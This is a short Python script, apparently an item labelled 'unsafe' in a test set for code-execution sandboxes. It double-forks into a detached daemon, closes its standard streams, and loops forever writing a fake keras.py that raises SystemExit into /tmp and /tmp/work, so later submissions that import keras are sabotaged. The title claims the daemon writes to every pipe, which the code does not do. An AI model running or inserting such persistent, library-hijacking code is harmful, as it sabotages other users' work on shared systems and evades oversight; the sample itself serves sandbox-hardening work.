# title: A daemon stays behind, writes to every pipe and plants modules for the next submission
# base: release
# score: 0
# stock: unsafe
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        while True:
            time.sleep(0.2)
            for folder in ("/tmp", "/tmp/work"):
                try:
                    with open(folder + "/keras.py", "w") as file:
                        file.write("raise SystemExit")
                except OSError:
                    pass
    os._exit(0)
